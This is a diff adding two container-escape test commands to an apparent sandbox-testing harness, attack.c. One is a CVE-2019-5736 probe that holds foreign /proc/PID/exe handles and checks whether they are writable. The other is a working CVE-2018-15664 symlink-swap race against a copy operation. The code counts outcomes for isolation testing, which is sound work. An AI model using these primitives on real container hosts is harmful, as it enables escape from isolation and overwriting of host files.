@@ -16,9 +16,23 @@
  *                                      Ethernet frame to DSTMAC (CAP_NET_RAW), then wait 2 s
  *                                      for any reply frame that carries TEXT back
  *   attack open PATH                   open PATH for reading and read up to 64 bytes
+ *   attack exe-watch SECONDS DEV:INO...
+ *                                      CVE-2019-5736: for SECONDS (or until /stop exists), open
+ *                                      /proc/PID/exe of every
+ *                                      other process (O_PATH, as the exploit does) whose file is
+ *                                      not on the container's root; count those that are one of
+ *                                      the host files DEV:INO; at the end, try each file kept for
+ *                                      writing through /proc/self/fd (opened, never written): one
+ *                                      that opens and is not sealed against writes is writable
+ *   attack swap-dirs DIR TARGET SECONDS
+ *                                      CVE-2018-15664: for SECONDS (or until /stop exists), as
+ *                                      soon as a directory DIR/NAME holds a file `f` (cp is copying
+ *                                      its content; its mode comes next), rename it away and put a
+ *                                      symlink to TARGET in its place; print how many swaps
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/if_packet.h>
@@ -179,6 +193,87 @@ static int open_read(const char *path) {
     return 0;
 }
 
+static int exe_watch(int seconds, int nfiles, char **files) {
+    struct stat own;
+    if (stat("/bin/busybox", &own) != 0) return outcome("stat-own", -1);
+    unsigned long want_dev[16], want_ino[16];
+    int nwant = 0;
+    for (int i = 0; i < nfiles && nwant < 16; i++)
+        if (sscanf(files[i], "%lu:%lu", &want_dev[nwant], &want_ino[nwant]) == 2) nwant++;
+    int kept[64], nkept = 0;
+    long host_opened = 0, scans = 0;
+    char self[32];
+    snprintf(self, sizeof self, "%d", getpid());
+    time_t end = time(NULL) + seconds;
+    while (time(NULL) < end && access("/stop", F_OK) != 0) {
+        DIR *d = opendir("/proc");
+        if (!d) return outcome("opendir", -1);
+        struct dirent *e;
+        while ((e = readdir(d))) {
+            if (e->d_name[0] < '0' || e->d_name[0] > '9' || strcmp(e->d_name, self) == 0) continue;
+            char path[300];
+            snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
+            int fd = open(path, O_PATH);
+            if (fd < 0) continue;
+            struct stat st;
+            if (fstat(fd, &st) != 0 || st.st_dev == own.st_dev) { close(fd); continue; }
+            int host = 0;
+            for (int i = 0; i < nwant; i++)
+                if (st.st_dev == want_dev[i] && st.st_ino == want_ino[i]) host = 1;
+            host_opened += host;
+            int seen = 0;
+            for (int i = 0; i < nkept; i++) {
+                struct stat k;
+                if (fstat(kept[i], &k) == 0 && k.st_dev == st.st_dev && k.st_ino == st.st_ino) seen = 1;
+            }
+            if (!seen && nkept < 64) kept[nkept++] = fd; else close(fd);
+        }
+        closedir(d);
+        scans++;
+    }
+    long writable = 0;
+    for (int i = 0; i < nkept; i++) {
+        char path[64];
+        snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
+        for (int tries = 0; tries < 50; tries++) {  /* ETXTBSY while it still runs somewhere */
+            int w = open(path, O_WRONLY);
+            if (w >= 0) {  /* a memfd opens for writing, but its F_SEAL_WRITE refuses every write */
+                int seals = fcntl(w, F_GET_SEALS);
+                if (seals < 0 || !(seals & F_SEAL_WRITE)) writable++;
+                close(w);
+                break;
+            }
+            if (errno != ETXTBSY) break;
+            usleep(20000);
+        }
+    }
+    printf("scans %ld kept %d host-exe-opened %ld foreign-exe-writable %ld\n", scans, nkept, host_opened, writable);
+    return 0;
+}
+
+static int swap_dirs(const char *dir, const char *target, int seconds) {
+    long swaps = 0;
+    time_t end = time(NULL) + seconds;
+    while (time(NULL) < end && access("/stop", F_OK) != 0) {
+        DIR *d = opendir(dir);
+        if (!d) continue;
+        struct dirent *e;
+        while ((e = readdir(d))) {
+            if (e->d_name[0] == '.' || strchr(e->d_name, '.')) continue;
+            char path[600], file[700], away[700];
+            snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
+            snprintf(file, sizeof file, "%s/f", path);
+            struct stat st;
+            if (lstat(path, &st) != 0 || !S_ISDIR(st.st_mode) || lstat(file, &st) != 0) continue;
+            snprintf(away, sizeof away, "%s.x", path);
+            if (rename(path, away) == 0 && symlink(target, path) == 0) swaps++;
+        }
+        closedir(d);
+    }
+    printf("swaps %ld\n", swaps);
+    return 0;
+}
+
 int main(int argc, char **argv) {
     setvbuf(stdout, NULL, _IOLBF, 0);
     if (argc >= 3 && strcmp(argv[1], "chroot-escape") == 0) return chroot_escape(argv[2]);
@@ -187,6 +282,8 @@ int main(int argc, char **argv) {
     if (argc >= 7 && strcmp(argv[1], "udp-frame") == 0)
         return udp_frame(argv[2], argv[3], argv[4], atoi(argv[5]), argv[6]);
     if (argc >= 3 && strcmp(argv[1], "open") == 0) return open_read(argv[2]);
+    if (argc >= 5 && strcmp(argv[1], "swap-dirs") == 0) return swap_dirs(argv[2], argv[3], atoi(argv[4]));
+    if (argc >= 3 && strcmp(argv[1], "exe-watch") == 0) return exe_watch(atoi(argv[2]), argc - 3, argv + 3);
     fprintf(stderr, "usage: see the comment at the top of attack.c\n");
     return 2;
 }
